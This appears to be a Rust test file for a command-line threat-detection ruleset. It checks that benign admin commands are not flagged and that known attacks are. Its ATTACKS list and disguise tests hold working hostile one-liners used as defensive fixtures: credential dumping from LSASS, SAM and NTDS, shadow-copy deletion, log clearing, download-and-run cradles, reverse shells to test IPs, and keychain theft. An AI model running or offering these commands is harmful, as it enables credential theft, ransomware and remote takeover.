//! The rules themselves: their examples, their bounds, and what administrators do all day.

use super::{Band, HIGH_FROM, MEDIUM_FROM, Observation, RESEMBLANCE, Ruleset, band, failing_examples};
use crate::verdict::Confidence;
use std::collections::BTreeSet;
use std::path::Path;
use vyrox_ruleset::{LINUX, MACOS, WINDOWS};

#[test]
fn every_rule_matches_its_examples_and_not_its_counter_examples() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let failures: Vec<String> = failing_examples(Ruleset::built_in(), &vyrox_ruleset::read(&folder).unwrap())
        .iter()
        .map(ToString::to_string)
        .collect();
    assert!(failures.is_empty(), "{} failures\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn there_are_enough_rules_and_each_is_whole() {
    let rules = Ruleset::built_in().rules();
    let ids: BTreeSet<&str> = rules.iter().map(|rule| rule.id()).collect();
    assert_eq!(ids.len(), rules.len());
    assert!(rules.len() >= 1_000, "{}", rules.len());
    for (platform, least) in [(WINDOWS, 900), (LINUX, 400), (MACOS, 400)] {
        let count = rules.iter().filter(|rule| rule.platforms & platform != 0).count();
        assert!(count >= least, "{count} rules for platform {platform}");
    }
    for rule in rules.iter() {
        assert!(rule.weight <= 9_900, "{}", rule.id());
        assert!(rule.conditions.len > 0 && rule.techniques().next().is_some(), "{}", rule.id());
    }
}

fn confidence(line: &str) -> Confidence {
    Ruleset::built_in().evaluate(&Observation { process_cmdline: Some(line), ..Observation::EMPTY }).confidence
}

/// None of these fifty may be HIGH. Eleven are not benign today, three of them MEDIUM, all by the learned resemblance: more
/// than the 6 % at which the level was placed (`docs/detection.md`). Fewer is better; more is a step back.
#[test]
fn everyday_administration_is_never_high_and_seldom_more_than_benign() {
    let high: Vec<&&str> = BENIGN.iter().filter(|line| confidence(line) >= HIGH_FROM).collect();
    assert!(high.is_empty(), "{high:#?}");
    let medium: Vec<&&str> = BENIGN.iter().filter(|line| confidence(line) >= MEDIUM_FROM).collect();
    assert!(medium.len() <= 3, "{medium:#?}");
    let looked_at: Vec<&&str> = BENIGN.iter().filter(|line| band(confidence(line)) != Band::Benign).collect();
    assert!(looked_at.len() <= 11, "{looked_at:#?}");
}

/// A few of them are what administrators also do, and are worth what the labelled data says they are worth.
#[test]
fn well_known_attacks_are_high_without_a_model_or_at_least_looked_at() {
    let missed: Vec<&&str> = ATTACKS.iter().filter(|line| band(confidence(line)) == Band::Benign).collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let lower: Vec<&&str> = ATTACKS.iter().filter(|line| confidence(line) < HIGH_FROM).collect();
    assert!(lower.len() * 100 <= ATTACKS.len() * 15, "{lower:#?}");
}

/// A disguise of cmd or of a shell hides nothing from the rule that knows the command.
#[test]
fn a_disguised_command_is_found_by_the_rule_of_the_plain_one() {
    for (plain, disguised) in [
        ("cmd /c vssadmin delete shadows /all", "cmd /c ,;vssadmin,delete,shadows,/all"),
        ("vssadmin delete shadows", ",;vssadmin,delete,shadows"),
        ("vssadmin delete shadows", "((vssadmin delete shadows))"),
        ("cmd /c vssadmin delete shadows /all", "cmd /c for %a in (vssadmin) do %a delete shadows /all"),
        ("sh -c 'curl http://203.0.113.5/x|sh'", "sh -c 'cu${x}rl http://203.0.113.5/x|sh'"),
    ] {
        let found = |text: &str| {
            let observation = Observation { process_cmdline: Some(text), ..Observation::EMPTY };
            let evidence = Ruleset::built_in().evaluate(&observation).evidence;
            evidence.into_iter().map(|item| item.rule_id).filter(|id| id != RESEMBLANCE).collect::<Vec<_>>()
        };
        let (wanted, found) = (found(plain), found(disguised));
        assert!(!wanted.is_empty() && wanted.iter().all(|id| found.contains(id)), "{disguised}: {wanted:?} {found:?}");
    }
}

/// What administrators, package managers and agents run.
pub(super) const BENIGN: &[&str] = &[
    r"C:\Windows\system32\ipconfig.exe /all",
    r#""C:\Windows\System32\cmd.exe" /c dir C:\Users\Public\Documents"#,
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Update-Inventory.ps1",
    "powershell -Command Get-Service | Where-Object Status -eq Stopped | Export-Csv C:\\Reports\\services.csv",
    r#"powershell.exe -Command "Get-ADUser -Filter * -Properties LastLogonDate | Sort-Object LastLogonDate""#,
    r"msiexec.exe /i C:\Packages\7z2301-x64.msi /qn /norestart",
    r"schtasks /query /fo LIST /v",
    r"schtasks /create /tn Backup /tr C:\Backup\backup.cmd /sc daily /st 02:00",
    r"sc query wuauserv",
    r"net use Z: \\fileserver\projects /persistent:yes",
    r"net start spooler",
    r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion /v ProgramFilesDir",
    r"robocopy D:\Data \\nas01\backup\data /MIR /R:3 /W:5 /LOG:C:\Logs\copy.log",
    r"wmic os get caption,version",
    r"certutil -hashfile setup.exe SHA256",
    r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    r"regsvr32 /s C:\Windows\System32\msxml6.dll",
    r"gpupdate /force",
    r"dism /online /cleanup-image /restorehealth",
    r"choco install git -y --no-progress",
    r"netsh interface ip show config",
    r"vssadmin list shadows",
    r"wevtutil qe System /c:20 /rd:true /f:text",
    r"bcdedit /enum all",
    r"taskkill /im notepad.exe /f",
    "ssh -i ~/.ssh/id_ed25519 deploy@app01.example.test uptime",
    "sudo apt-get update && sudo apt-get install -y nginx",
    "systemctl restart nginx.service",
    "journalctl -u sshd --since today",
    "tar -czf /var/backups/etc-2026-01-05.tar.gz /etc",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc",
    "rsync -az --delete /srv/www/ web02:/srv/www/",
    "docker compose -f /opt/app/compose.yaml up -d",
    "kubectl get pods --all-namespaces -o wide",
    "crontab -l",
    "python3 -m venv /opt/app/venv",
    "grep -rn 'listen 443' /etc/nginx",
    "openssl x509 -in /etc/ssl/certs/site.pem -noout -enddate",
    "useradd --system --no-create-home --shell /usr/sbin/nologin prometheus",
    "aws s3 sync /srv/site s3://example-site --delete",
    "/usr/sbin/softwareupdate --install --all",
    "brew upgrade --cask",
    "defaults write com.apple.dock autohide -bool true",
    "launchctl list",
    "system_profiler SPHardwareDataType",
    "osascript -e 'tell application \"Finder\" to empty trash'",
    "dscl . -read /Users/admin NFSHomeDirectory",
    "xattr -l /Applications/Firefox.app",
    "security find-certificate -a -p /Library/Keychains/System.keychain",
];

/// One line per behaviour that nobody should have to ask a model about.
const ATTACKS: &[&str] = &[
    r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
    r"procdump64.exe -accepteula -ma lsass.exe out.dmp",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    r"reg save HKLM\SAM C:\Users\Public\sam.hiv",
    r#"ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q"#,
    "vssadmin delete shadows /all /quiet",
    "wmic shadowcopy delete",
    "bcdedit /set {default} recoveryenabled no",
    "wbadmin delete catalog -quiet",
    "wevtutil cl Security",
    "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true",
    "powershell -nop -w hidden -c \"IEX((new-object net.webclient).downloadstring('http://198.51.100.9/a'))\"",
    "certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
    "mshta.exe http://198.51.100.9/a.hta",
    "regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc -e /bin/sh 203.0.113.9 4444",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "sh -c 'echo /tmp/x.so >> /etc/ld.so.preload'",
    "curl -s http://203.0.113.9/x.sh | bash",
    "security dump-keychain -d login.keychain",
    "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
    "spctl --master-disable",
    "cat /etc/shadow",
];
